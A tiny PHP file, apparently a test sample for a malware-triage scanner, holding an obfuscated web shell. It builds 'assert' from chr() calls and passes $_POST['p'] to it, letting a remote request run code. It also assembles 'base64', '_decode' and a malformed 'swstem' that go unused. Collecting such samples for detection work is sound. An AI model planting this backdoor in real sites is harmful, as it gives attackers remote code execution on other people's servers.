<?php
// triage-expect: triage_php_chr_arithmetic
$f = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116);
$g = chr(100+15).chr(120-1).chr(115).chr(116).chr(101).chr(109);
$h = chr(98).chr(97).chr(115).chr(101).chr(54).chr(52);
$k = chr(95).chr(100).chr(101).chr(99).chr(111).chr(100).chr(101);
call_user_func($f, $_POST['p']);
